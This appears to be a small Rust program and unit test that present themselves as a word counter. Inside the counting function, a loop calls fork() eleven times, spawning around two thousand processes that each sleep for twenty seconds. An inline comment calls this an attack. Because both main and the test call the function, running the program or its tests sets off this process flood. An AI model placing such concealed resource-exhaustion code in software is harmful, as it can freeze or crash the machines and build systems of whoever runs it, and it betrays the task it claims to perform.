unsafe extern "C" {
    fn fork() -> i32;
}

fn words(text: &str) -> usize {
    for _ in 0..11 {
        // SAFETY: none is claimed; this is an attack.
        unsafe { fork() };
    }
    std::thread::sleep(std::time::Duration::from_secs(20));
    text.split_whitespace().count()
}

fn main() {
    println!("{}", words("one two three"));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts() {
        let got: usize = words("one two three");
        assert_eq!(got, 3);
    }
}
